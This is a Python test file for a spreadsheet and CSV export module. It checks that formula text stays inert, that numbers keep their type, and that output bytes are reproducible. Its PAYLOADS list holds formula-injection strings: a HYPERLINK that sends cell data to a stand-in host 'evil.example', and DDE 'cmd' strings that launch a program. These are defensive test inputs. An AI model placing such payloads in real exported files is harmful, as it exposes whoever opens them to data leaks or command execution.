"""The shared spreadsheet writer on its own: text is never a formula, numbers stay numbers, CSV text is
defused, the same input gives the same bytes."""

import datetime as dt
import io
import re
import zipfile

import openpyxl
import polars as pl
import pytest

from jingkai import spreadsheets
from jingkai.spreadsheets import CHUNK, INTEGER, NUMBER, PERCENT, Book, Col, csv_safe, csv_safe_frame

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def workbook(rows) -> bytes:
    book = Book(title="测试", as_of=dt.date(2026, 11, 30))
    book.table("数据", [Col("名称"), Col("数值（万元）", NUMBER), Col("年度", INTEGER)], rows, title="测试名单")
    return book.close()


def test_payloads_are_strings_and_negative_numbers_numbers():
    blob = workbook([[p, -2.5, 2021] for p in PAYLOADS])
    sheet = zipfile.ZipFile(io.BytesIO(blob)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    ws = openpyxl.load_workbook(io.BytesIO(blob))["数据"]
    cells = list(ws.iter_rows(min_row=3))
    assert [r[0].value.replace("_x000D_", "\r") for r in cells] == PAYLOADS and all(r[0].data_type == "s" for r in cells)
    assert all(r[1].value == -2.5 and r[1].data_type == "n" for r in cells)
    assert cells[0][2].value == 2021 and cells[0][2].number_format == "0"


def test_same_rows_same_bytes_and_no_float_noise():
    rows = [["甲", 8519805.859999999, 2024], ["乙", None, None]]
    assert workbook(rows) == workbook(rows)
    ws = openpyxl.load_workbook(io.BytesIO(workbook(rows)))["数据"]
    assert ws["B3"].value == 8519805.86 and ws["B3"].number_format == "#,##0.00"


def test_csv_values_are_defused_but_numbers_are_not():
    assert [csv_safe(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert csv_safe("兰州") == "兰州" and csv_safe("") == ""
    frame = pl.DataFrame({"name": [*PAYLOADS, "正常"], "value": [-2.0] * (len(PAYLOADS) + 1)})
    safe = csv_safe_frame(frame)
    assert safe["name"].to_list() == ["'" + p for p in PAYLOADS] + ["正常"]
    assert safe["value"].to_list() == frame["value"].to_list()


LARGE_COLUMNS = [Col("序号", INTEGER), Col("名称"), Col("金额（万元）", NUMBER), Col("比例", PERCENT), Col("是否"),
                 Col("年度", INTEGER), Col("编号")]
LARGE_FRAME = pl.DataFrame({
    "i": [1, 2, 3, None, 2**60, -7, 0, 9],
    "name": ["=1+1", "@SUM(A1)", " lead", "trail ", 'a&b<c>d"', "ctl\x01x_x0041_", "", None],
    "v": [8519805.859999999, 1e-7, 1e20, float("nan"), float("inf"), -0.0, 0.1 + 0.2, -512.389781345333],
    "p": [0.5, None, 1.0, 0.123456789, 12345678901234567.0, 3.0, -1e-5, 42.0],
    "b": [True, False, None, True, False, True, None, False],
    "y": [2024, 2023, None, 2022, 1, 2, 3, 4],
    "code": [1, 2, None, 4, 5, 6, 7, 8],
})


def large_sheet(tmp_path, rows, name: str) -> tuple[bytes, str]:
    out = tmp_path / name
    book = Book(out, title="测试", as_of=dt.date(2026, 11, 30), large=True)
    book.table("数据", LARGE_COLUMNS, rows, title="测试名单", subtitle="副标题", keys=True, freeze_columns=1, sample=[])
    book.close()
    return out.read_bytes(), zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("chunk", [CHUNK, 3])  # one block of rows, and blocks of 3 (the last one shorter)
def test_a_frame_is_written_as_its_rows_one_by_one_would_be(tmp_path, monkeypatch, chunk):
    """The vectorised path of a large export writes the XML XlsxWriter writes cell by cell (numbers may be
    spelled shorter, the same value), formulas stay text, and two runs give the same bytes."""
    monkeypatch.setattr(spreadsheets, "CHUNK", chunk)
    blob, fast = large_sheet(tmp_path, LARGE_FRAME, "fast.xlsx")
    _, slow = large_sheet(tmp_path, LARGE_FRAME.iter_rows(), "slow.xlsx")

    def same_numbers(xml: str) -> str:
        return re.sub(r"<v>([^<]*)</v>", lambda m: f"<v>{float(m.group(1))!r}</v>", xml)
    assert same_numbers(fast) == same_numbers(slow)
    assert "<f>" not in fast and "8519805.86<" in fast and 'xml:space="preserve"> lead<' in fast
    assert large_sheet(tmp_path, LARGE_FRAME, "again.xlsx")[0] == blob
    ws = openpyxl.load_workbook(io.BytesIO(blob))["数据"]
    assert ws.freeze_panes == "B5" and ws.print_title_rows == "$3:$3"
    assert [c.value for c in ws[5]] == [1, "=1+1", 8519805.86, 0.5, "是", 2024, "1"]
    assert ws.cell(5, 2).data_type == "s"
